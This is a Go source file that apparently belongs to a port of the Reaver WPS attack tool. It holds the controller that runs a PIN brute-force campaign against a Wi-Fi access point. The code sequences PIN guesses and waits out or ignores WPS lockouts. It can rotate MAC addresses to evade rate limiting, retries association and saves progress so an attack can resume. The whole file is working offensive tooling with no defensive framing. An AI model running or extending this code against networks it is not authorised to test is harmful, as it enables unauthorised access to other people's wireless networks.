// Package campaign sequences PIN attempts against one access point: pacing,
// lock evasion, association, outcome bookkeeping and session persistence.
package campaign

import (
	"context"
	"errors"
	"fmt"
	"net"
	"time"

	"github.com/cenkalti/backoff/v4"
	"github.com/sirupsen/logrus"

	"github.com/Redfern89/reaver-redfern89/internal/capture"
	"github.com/Redfern89/reaver-redfern89/internal/exchange"
	"github.com/Redfern89/reaver-redfern89/internal/frame"
	"github.com/Redfern89/reaver-redfern89/internal/limiter"
	"github.com/Redfern89/reaver-redfern89/internal/pin"
	"github.com/Redfern89/reaver-redfern89/internal/session"
	"github.com/Redfern89/reaver-redfern89/internal/ui"
)

const (
	// MaxAssocFailures consecutive association failures produce a warning.
	MaxAssocFailures = 10
	// WarnFailureCount consecutive failed transactions trigger the fail wait.
	WarnFailureCount = 10
	// DisplayPinCount is how many iterations pass between status saves.
	DisplayPinCount = 5
)

var (
	ErrUnsupportedDevice = errors.New("campaign: device is not supported")
	ErrSetupLocked       = errors.New("campaign: AP reported WPS setup locked")
	ErrAttemptBudget     = errors.New("campaign: attempt budget reached")
	ErrLockWaitExceeded  = errors.New("campaign: AP stayed locked")
)

// Link is what the controller needs from the capture link.
type Link interface {
	Reassociate(ctx context.Context) error
	NextBeacon(ctx context.Context, timeout time.Duration) (*frame.Beacon, error)
	BSSID() net.HardwareAddr
	MAC() net.HardwareAddr
	SetMAC(net.HardwareAddr)
	SSID() string
	SetSSID(string)
	Close()
}

// Exchanger runs one registration attempt.
type Exchanger interface {
	Run(ctx context.Context, keys exchange.Keys, cand pin.Candidate) (exchange.Result, error)
}

// Sessions persists search progress.
type Sessions interface {
	Save(target net.HardwareAddr, rec session.Record) error
	Restore(target net.HardwareAddr) (session.Record, bool, error)
}

// Config holds the campaign policy. Zero values disable the feature they
// name unless noted.
type Config struct {
	StaticPIN string
	// MaxAttempts caps rejected candidates; zero means the whole keyspace.
	MaxAttempts int

	Delay          time.Duration
	RecurringEvery int
	RecurringDelay time.Duration

	LockDelay     time.Duration
	IgnoreLocks   bool
	MaxLockWaits  int // zero waits forever
	BeaconTimeout time.Duration

	FailWait time.Duration

	AssociationRetries int // zero retries forever
	AssociationWait    time.Duration

	MACChanger  bool
	NoSession   bool
	Unsupported bool
}

// Summary describes how a campaign ended.
type Summary struct {
	PIN        string
	Attempts   int
	Iterations int
	Tested     int
	Progress   float64
	Elapsed    time.Duration
}

// Controller owns the campaign state for the lifetime of one run.
type Controller struct {
	cfg      Config
	link     Link
	exch     Exchanger
	sessions Sessions
	space    *pin.Space
	pacer    *limiter.Pacer
	log      *logrus.Entry
	events   chan<- ui.Event

	sleep limiter.SleepFunc
	now   func() time.Time

	start      time.Time
	attempts   int
	iterations int
	budget     int
	pin        string
}

// New builds a controller. sessions may be nil, which disables persistence.
func New(cfg Config, link Link, exch Exchanger, sessions Sessions, log *logrus.Entry) *Controller {
	if cfg.BeaconTimeout <= 0 {
		cfg.BeaconTimeout = 2 * time.Second
	}
	if log == nil {
		log = logrus.NewEntry(logrus.StandardLogger())
	}
	c := &Controller{
		cfg:      cfg,
		link:     link,
		exch:     exch,
		sessions: sessions,
		space:    pin.NewSpace(),
		log:      log.WithField("bssid", link.BSSID().String()),
		sleep:    limiter.Sleep,
		now:      time.Now,
	}
	c.pacer = &limiter.Pacer{
		Delay:          cfg.Delay,
		RecurringEvery: cfg.RecurringEvery,
		RecurringDelay: cfg.RecurringDelay,
		Sleep:          func(ctx context.Context, d time.Duration) error { return c.sleep(ctx, d) },
	}
	return c
}

// SetEvents attaches a UI event channel. Sends never block; events are
// dropped when the channel is full.
func (c *Controller) SetEvents(ch chan<- ui.Event) { c.events = ch }

// Space exposes the PIN space, mainly for reporting.
func (c *Controller) Space() *pin.Space { return c.space }

func (c *Controller) emit(ev ui.Event) {
	if c.events == nil {
		return
	}
	ev.Time = c.now()
	select {
	case c.events <- ev:
	default:
	}
}

func (c *Controller) info(format string, args ...any) {
	msg := fmt.Sprintf(format, args...)
	c.log.Info(msg)
	c.emit(ui.Event{Type: ui.EvtInfo, Msg: msg})
}

func (c *Controller) warn(format string, args ...any) {
	msg := fmt.Sprintf(format, args...)
	c.log.Warn(msg)
	c.emit(ui.Event{Type: ui.EvtWarning, Msg: msg})
}

// Run drives the campaign until the PIN is recovered or a terminal
// condition is hit. The session is saved and the link closed on every exit.
func (c *Controller) Run(ctx context.Context) (Summary, error) {
	defer c.link.Close()

	if c.cfg.Unsupported {
		return c.summary(), ErrUnsupportedDevice
	}
	if err := c.setup(ctx); err != nil {
		return c.summary(), err
	}
	defer func() {
		if err := c.save(); err != nil {
			c.log.WithError(err).Error("Failed to save session")
		}
	}()

	err := c.loop(ctx)
	if c.pin != "" {
		c.log.WithField("pin", c.pin).Info("WPS PIN recovered")
		c.emit(ui.Event{Type: ui.EvtCracked, PIN: c.pin})
	}
	return c.summary(), err
}

func (c *Controller) setup(ctx context.Context) error {
	bssid := c.link.BSSID()

	if c.sessions != nil && !c.cfg.NoSession {
		rec, ok, err := c.sessions.Restore(bssid)
		if err != nil {
			return fmt.Errorf("restore session: %w", err)
		}
		switch {
		case ok:
			if err := c.space.SetOrder(rec.P1Order, rec.P2Order); err != nil {
				return fmt.Errorf("restore session: %w", err)
			}
			if err := c.space.Restore(rec.P1Index, rec.P2Index, rec.KeyStatus); err != nil {
				return fmt.Errorf("restore session: %w", err)
			}
			c.info("Restored previous session (%.2f%% complete)", c.space.Progress())
			if c.link.SSID() == "" && rec.ESSID != "" {
				c.link.SetSSID(rec.ESSID)
			}
		case !rec.UpdatedAt.IsZero():
			c.info("Previous session from %s has expired, starting over", rec.UpdatedAt.Format(time.RFC3339))
		}
	}

	// A finished session means the AP is being re-attacked.
	if c.space.Status() == pin.KeyDone {
		c.space.SetStatus(pin.Key2WIP)
	}

	c.budget = c.cfg.MaxAttempts
	if c.budget <= 0 {
		c.budget = pin.P1Size + pin.P2Size
	}
	if c.cfg.StaticPIN != "" {
		if err := c.space.ForceStatic(c.cfg.StaticPIN); err != nil {
			return fmt.Errorf("static pin %q: %w", c.cfg.StaticPIN, err)
		}
		if _, full, _ := c.space.Static(); full {
			c.budget = 1
		}
	}

	c.info("Waiting for beacon from %s", bssid)
	b, err := c.link.NextBeacon(ctx, c.cfg.BeaconTimeout)
	switch {
	case errors.Is(err, capture.ErrNoBeacon):
		if c.link.SSID() == "" {
			return fmt.Errorf("learn ESSID of %s: %w", bssid, err)
		}
		c.warn("No beacon from %s yet, continuing", bssid)
	case err != nil:
		return err
	default:
		c.info("Received beacon from %s", bssid)
		if c.link.SSID() == "" {
			c.link.SetSSID(b.SSID)
		}
	}

	c.start = c.now()
	return nil
}

func (c *Controller) loop(ctx context.Context) error {
	bssid := c.link.BSSID()
	failures := 0

	for c.space.Status() != pin.KeyDone {
		c.iterations++

		if c.cfg.MACChanger {
			c.link.SetMAC(NextMAC(c.link.MAC()))
			c.warn("Using MAC %s", c.link.MAC())
		}

		recurring, err := c.pacer.Before(ctx)
		if err != nil {
			return err
		}
		if recurring {
			c.log.WithField("delay", c.cfg.RecurringDelay).Debug("Entered recurring delay")
		}

		if err := c.waitUnlocked(ctx); err != nil {
			return err
		}

		cand, err := c.space.Next()
		if err != nil {
			return fmt.Errorf("generate next pin: %w", err)
		}
		c.log.WithField("pin", cand.String()).Debug("Trying pin")
		c.emit(ui.Event{Type: ui.EvtAttempt, PIN: cand.String()})

		if err := c.associate(ctx); err != nil {
			return err
		}
		c.info("Associated with %s (ESSID: %s)", bssid, c.link.SSID())

		res, err := c.exch.Run(ctx, c.space, cand)
		if err != nil {
			return fmt.Errorf("exchange: %w", err)
		}

		switch res.Outcome {
		case exchange.KeyRejected:
			failures = 0
			c.attempts++
			c.space.Advance()
		case exchange.KeyAccepted:
		default:
			c.log.WithFields(logrus.Fields{
				"outcome": res.Outcome,
				"state":   res.State,
				"last":    res.LastMessage,
			}).Debug("WPS transaction failed, re-trying last pin")
			failures++
		}

		if failures == WarnFailureCount {
			c.warn("%d failed connections in a row", failures)
			failures = 0
			if err := c.sleep(ctx, c.cfg.FailWait); err != nil {
				return err
			}
		}

		if c.iterations%DisplayPinCount == 0 {
			if err := c.save(); err != nil {
				c.log.WithError(err).Error("Failed to save session")
			}
			c.report()
		}

		if c.space.Status() == pin.KeyDone {
			c.pin = cand.String()
			break
		}
		if res.SetupLocked {
			c.budget = 0
			return ErrSetupLocked
		}
		if c.attempts >= c.budget {
			c.log.WithField("attempts", c.attempts).Info("Quitting after attempt budget")
			return ErrAttemptBudget
		}
	}
	return nil
}

// waitUnlocked polls beacons until the AP no longer advertises a WPS lock.
func (c *Controller) waitUnlocked(ctx context.Context) error {
	for waits := 0; ; waits++ {
		b, err := c.link.NextBeacon(ctx, c.cfg.BeaconTimeout)
		if errors.Is(err, capture.ErrNoBeacon) {
			return nil
		}
		if err != nil {
			return err
		}
		if !b.HasWPS {
			c.warn("AP seems to have WPS turned off")
			return nil
		}
		if !b.Locked || c.cfg.IgnoreLocks {
			return nil
		}
		if c.cfg.MaxLockWaits > 0 && waits >= c.cfg.MaxLockWaits {
			return ErrLockWaitExceeded
		}
		msg := fmt.Sprintf("Detected AP rate limiting, waiting %s before re-checking", c.cfg.LockDelay)
		c.log.Warn(msg)
		c.emit(ui.Event{Type: ui.EvtLocked, Msg: msg})
		if err := c.sleep(ctx, c.cfg.LockDelay); err != nil {
			return err
		}
	}
}

// associate re-associates before each exchange. Failures are retried with a
// constant wait and do not count against the attempt budget.
func (c *Controller) associate(ctx context.Context) error {
	var b backoff.BackOff = backoff.NewConstantBackOff(c.cfg.AssociationWait)
	if c.cfg.AssociationRetries > 0 {
		b = backoff.WithMaxRetries(b, uint64(c.cfg.AssociationRetries))
	}
	b = backoff.WithContext(b, ctx)

	failures := 0
	op := func() error {
		err := c.link.Reassociate(ctx)
		if err != nil && !errors.Is(err, capture.ErrAssociation) {
			return backoff.Permanent(err)
		}
		return err
	}
	notify := func(err error, _ time.Duration) {
		failures++
		c.log.WithError(err).Debug("Association failed")
		if failures%MaxAssocFailures == 0 {
			c.warn("Failed to associate with %s (ESSID: %s)", c.link.BSSID(), c.link.SSID())
		}
	}
	if err := backoff.RetryNotify(op, b, notify); err != nil {
		if ctxErr := ctx.Err(); ctxErr != nil {
			return ctxErr
		}
		return fmt.Errorf("associate with %s: %w", c.link.BSSID(), err)
	}
	return nil
}

func (c *Controller) save() error {
	if c.sessions == nil || c.cfg.NoSession {
		return nil
	}
	p1, p2 := c.space.Indices()
	p1Order, p2Order := c.space.Order()
	return c.sessions.Save(c.link.BSSID(), session.Record{
		ESSID:     c.link.SSID(),
		P1Index:   p1,
		P2Index:   p2,
		KeyStatus: c.space.Status(),
		PIN:       c.pin,
		P1Order:   p1Order,
		P2Order:   p2Order,
	})
}

func (c *Controller) stats() ui.Stats {
	elapsed := c.now().Sub(c.start)
	var perPin float64
	if c.attempts > 0 {
		perPin = float64(int(elapsed.Seconds()) / c.attempts)
	}
	return ui.Stats{
		Tested:        c.space.Tested(),
		Total:         pin.P1Size + pin.P2Size,
		Attempts:      c.attempts,
		Progress:      c.space.Progress(),
		Elapsed:       elapsed,
		SecondsPerPin: perPin,
		KeyStatus:     c.space.Status().String(),
		MAC:           c.link.MAC().String(),
	}
}

func (c *Controller) report() {
	s := c.stats()
	c.log.WithFields(logrus.Fields{
		"progress":    fmt.Sprintf("%.2f", s.Progress),
		"seconds_pin": s.SecondsPerPin,
		"attempts":    s.Attempts,
	}).Info("Progress")
	c.emit(ui.Event{Type: ui.EvtProgress, Stats: s})
}

func (c *Controller) summary() Summary {
	s := Summary{
		PIN:        c.pin,
		Attempts:   c.attempts,
		Iterations: c.iterations,
		Tested:     c.space.Tested(),
		Progress:   c.space.Progress(),
	}
	if !c.start.IsZero() {
		s.Elapsed = c.now().Sub(c.start)
	}
	return s
}
